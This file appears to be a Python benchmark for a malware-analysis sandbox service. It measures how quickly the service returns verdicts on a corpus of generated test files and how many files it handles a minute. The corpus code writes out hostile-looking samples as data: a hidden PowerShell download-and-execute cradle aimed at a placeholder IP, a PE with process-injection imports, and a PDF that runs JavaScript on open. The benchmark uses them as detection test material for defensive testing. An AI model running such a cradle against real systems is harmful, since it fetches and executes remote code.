"""Sandbox benchmark: verdict latency at the center and files analysed per minute.

``python -m lab sandbox-bench --files N --workers W``:

1. starts a real center (``lab.center.start_center``, SQLite, HTTPS on 127.0.0.1) with W sandbox
   worker threads, submission limits off, and activates one box;
2. builds a corpus of harmless test files of the kinds the boxes submit (lab/sandbox_samples.py:
   marked and plain PE, PE with imports, ELF, a zip holding an ELF, a PDF with JavaScript, a
   PowerShell script), each salted so it is new to the center;
3. baseline: the static analyzer alone, in this process, on the corpus (files a minute: the limit);
4. latency: files submitted one at a time as a box does (``POST /api/v1/sandbox/files``), the
   verdict asked every 50 ms (``POST /api/v1/sandbox/verdicts``) until it is there: the time from
   the submission to the verdict a box can see, and the center's own queue-to-verdict time;
5. throughput: N files submitted at once from 4 threads, the time until every one is judged:
   files a minute through the queue, against the baseline (ratio in the same run);
6. writes the section ``sandbox`` of docs/benchmarks.md.
"""
from __future__ import annotations

import argparse
import hashlib
import io
import statistics
import tempfile
import threading
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import requests  # noqa: F401  (the sessions are center.session())

from lab.bench import host
from lab.bench.doc import write_section
from lab.bench.report import md_table

SECTION_NAME = "sandbox"


def add_arguments(p: argparse.ArgumentParser) -> None:
    p.add_argument("--files", type=int, default=300, help="files of the throughput phase")
    p.add_argument("--latency-files", type=int, default=40, help="files submitted one at a time")
    p.add_argument("--workers", type=int, default=1, help="sandbox worker threads of the center")
    p.add_argument("--out", default="docs/benchmarks.md", help="report file ('-' = print only)")


def corpus(n: int, tag: str) -> list[tuple[str, bytes]]:
    from lab.sandbox_samples import elf, pe

    out: list[tuple[str, bytes]] = []
    for i in range(n):
        salt = f"{tag}-{i}".encode()
        kind = i % 7
        if kind == 0:
            out.append((f"bad{i}.exe", pe(salt=salt)))
        elif kind == 1:
            out.append((f"ok{i}.exe", pe(marker=False, salt=salt)))
        elif kind == 2:
            out.append((f"inj{i}.exe", pe(marker=False, salt=salt, imports={
                "kernel32.dll": ["VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread", "IsDebuggerPresent"],
                "urlmon.dll": ["URLDownloadToFileA"], "shell32.dll": ["ShellExecuteA"]})))
        elif kind == 3:
            out.append((f"tool{i}", elf(salt=salt)))
        elif kind == 4:
            buf = io.BytesIO()
            with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
                z.writestr("readme.txt", "setup notes " * 50)
                z.writestr("bin/setup", elf(marker=False, salt=salt))
            out.append((f"pack{i}.zip", buf.getvalue()))
        elif kind == 5:
            out.append((f"doc{i}.pdf", b"%PDF-1.7\n1 0 obj << /OpenAction 2 0 R >>\n2 0 obj << /S /JavaScript /JS "
                        b"(app.alert('" + salt + b"')) >>\n" + b"0" * 20000))
        else:
            out.append((f"run{i}.ps1", b"$u='http://198.51.100.7/" + salt + b"'\npowershell -w hidden -c "
                        b"IEX (New-Object Net.WebClient).DownloadString($u)\n"))
    return out


def pct(values: list[float], p: float) -> float:
    s = sorted(values)
    return s[min(len(s) - 1, int(round(p / 100 * (len(s) - 1))))]


def run_bench(args: argparse.Namespace) -> int:
    from lab.center import start_center
    from opscenter.sandbox.analyzer import StaticAnalyzer

    tag = str(time.time_ns())
    files = corpus(args.files, tag)
    lat_files = corpus(args.latency_files, tag + "-lat")
    analyzer = StaticAnalyzer()
    for name, data in corpus(7, tag + "-warm"):  # first calls load oletools' parsers
        analyzer.analyze(data, {"filename": name})
    t0, c0 = time.perf_counter(), time.process_time()
    for name, data in files:
        analyzer.analyze(data, {"filename": name})
    base_wall, base_cpu = time.perf_counter() - t0, time.process_time() - c0
    base_rate = len(files) / base_wall * 60
    print(f"baseline: the analyzer alone, {len(files)} files in {base_wall:.2f} s ({base_rate:.0f} files/min)")
    load_before = host.read_text("/proc/loadavg").split()[:3]
    with tempfile.TemporaryDirectory(prefix="vcr-sandbox-bench-") as wd:
        center = start_center(Path(wd) / "center", settings={
            "checkin_rate": 0, "alarm_rate": 0, "activate_rate": 0, "sandbox_workers": args.workers,
            "sandbox_submit_rate": 0, "sandbox_quota_files": 0})
        try:
            s = center.session()
            code = center.issue_code("C-BENCH", serial="VCR-BENCH")
            box = s.post(f"{center.url}/api/v1/activate", json={"serial": "VCR-BENCH", "activation_code": code,
                                                                "agent_version": "bench", "hostname": "bench"}).json()
            auth = {"Authorization": f"Bearer {box['token']}"}

            def submit(sess: requests.Session, name: str, data: bytes) -> str:
                h = hashlib.sha256(data).hexdigest()
                r = sess.post(f"{center.url}/api/v1/sandbox/files", params={"sha256": h, "name": name}, data=data,
                              headers={**auth, "Content-Type": "application/octet-stream"}, timeout=30)
                r.raise_for_status()
                return h

            def verdicts(sess: requests.Session, hashes: list[str]) -> dict[str, Any]:
                out: dict[str, Any] = {}
                for i in range(0, len(hashes), 256):
                    r = sess.post(f"{center.url}/api/v1/sandbox/verdicts", json={"sha256": hashes[i:i + 256]},
                                  headers=auth, timeout=30)
                    r.raise_for_status()
                    out.update(r.json()["verdicts"])
                return out

            latencies: list[float] = []
            for name, data in lat_files:
                t = time.perf_counter()
                h = submit(s, name, data)
                while verdicts(s, [h])[h]["verdict"] in ("pending", "unknown"):
                    time.sleep(0.05)
                latencies.append(time.perf_counter() - t)
            from opscenter.sandbox import queue

            center_lat = [r["latency_ms"] / 1000 for r in queue.listing(center.db, status="done", limit=100000)
                          if r["latency_ms"] is not None]
            print(f"latency: median {statistics.median(latencies):.2f} s, p95 {pct(latencies, 95):.2f} s")
            import psutil

            procs = [psutil.Process(center.proc.pid)] if center.proc is not None else []
            procs += [c for p in procs for c in p.children(recursive=True)]

            def center_cpu() -> float:
                total = 0.0
                for p in procs:
                    try:
                        ct = p.cpu_times()
                        total += ct.user + ct.system
                    except psutil.Error:
                        pass
                return total

            cpu0 = center_cpu()
            t = time.perf_counter()
            local = threading.local()

            def one(item: tuple[str, bytes]) -> str:
                sess = getattr(local, "s", None)
                if sess is None:
                    sess = local.s = center.session()
                return submit(sess, *item)

            with ThreadPoolExecutor(4) as pool:
                hashes = list(pool.map(one, files))
            submitted = time.perf_counter() - t
            while True:
                v = verdicts(s, hashes)
                if all(x["verdict"] not in ("pending",) for x in v.values()):
                    break
                time.sleep(0.2)
            total = time.perf_counter() - t
            queue_cpu = center_cpu() - cpu0
            counts: dict[str, int] = {}
            for x in v.values():
                counts[x["verdict"]] = counts.get(x["verdict"], 0) + 1
            rate = len(files) / total * 60
            print(f"throughput: {len(files)} files in {total:.1f} s ({rate:.0f} files/min), verdicts {counts}")
        finally:
            center.close()
    load_after = host.read_text("/proc/loadavg").split()[:3]
    m = host.machine()
    cmd = (f"python -m lab sandbox-bench --files {args.files} --latency-files {args.latency_files} "
           f"--workers {args.workers}")
    rows = [
        ["Verdict latency, submission to the verdict a box sees (median / p95 / max)",
         f"**{statistics.median(latencies):.2f} s** / {pct(latencies, 95):.2f} s / {max(latencies):.2f} s"],
        ["The center's own time, queued to judged (median / p95)",
         f"{statistics.median(center_lat):.2f} s / {pct(center_lat, 95):.2f} s" if center_lat else "-"],
        [f"Throughput through the queue ({len(files)} files submitted at once)",
         f"**{rate:.0f} files/min** ({total:.1f} s; submissions took {submitted:.1f} s)"],
        ["Baseline: the analyzer alone in one process (the limit)",
         f"{base_rate:.0f} files/min ({base_cpu / len(files) * 1000:.1f} CPU-ms a file)"],
        ["Queue / baseline (wall: rates)", f"{rate / base_rate:.2f}x"],
        ["CPU of the center a file through the queue (HTTPS submission, database, analysis, and the bench's verdict queries every 0.2 s) / the analyzer alone",
         f"{queue_cpu / len(files) * 1000:.1f} / {base_cpu / len(files) * 1000:.1f} CPU-ms: "
         f"**{(queue_cpu / len(files)) / max(base_cpu / len(files), 1e-9):.2f}x**"],
        ["Verdicts of the throughput files", ", ".join(f"{k} {n}" for k, n in sorted(counts.items()))],
    ]
    md = "\n".join([
        "# Benchmarks: sandbox",
        "",
        "Generated by `python -m lab sandbox-bench` (lab/bench/sandbox.py); run it again rather than editing.",
        "",
        "Method: a real center (HTTPS on 127.0.0.1, SQLite) with its sandbox worker thread(s) and the static "
        "analyzer (YARA, pefile, olevba, PDF checks; no ClamAV). Harmless test files of the kinds boxes submit "
        "(marked and plain PE, PE with injection imports, ELF, zip holding an ELF, PDF with JavaScript, PowerShell "
        "download cradle), each new to the center. Latency: one file at a time, submitted as a box does, the "
        "verdict asked every 50 ms. Throughput: all files submitted at once from 4 threads, until every one is "
        "judged. Baseline: the same analyzer on the same files in one process, no queue.",
        "",
        f"- Command: `{cmd}`",
        f"- Date: {time.strftime('%Y-%m-%d %H:%M')}; machine: {m.get('nproc', '?')} CPUs ({m.get('cpu', '?')}); "
        f"load average before / after: {' / '.join(load_before)} / {' / '.join(load_after)} (the machine is "
        "shared with other work)",
        "",
        *md_table([["Figure", "Value"], *rows]),
        "",
        "- Goal: a file judged at one customer is blocked at all of them within one check-in (60 s): the "
        f"verdict latency above ({statistics.median(latencies):.2f} s median) is far inside that. Through the queue "
        f"the center analyses at {rate / base_rate:.2f}x the rate of the analyzer alone; on this shared machine "
        "wall-clock rates move with the load (the center is a process of its own, the baseline ran in the "
        "bench's), so the CPU time is the steadier ratio: what the queue adds to the analysis is the HTTPS "
        "submission and the database round trips. One worker thread analyses one file at a time; more "
        "`sandbox_workers` or center processes scale it (the queue is claimed with a conditional update, "
        "safe across processes).",
        "- A dynamic sandbox (CAPEv2) would take minutes a file instead: the boxes' `hold_timeout` passes the "
        "file first and the retro alarm follows (docs/sandbox.md).",
    ])
    print(md)
    if args.out != "-":
        write_section(Path(args.out), SECTION_NAME, md)
    return 0
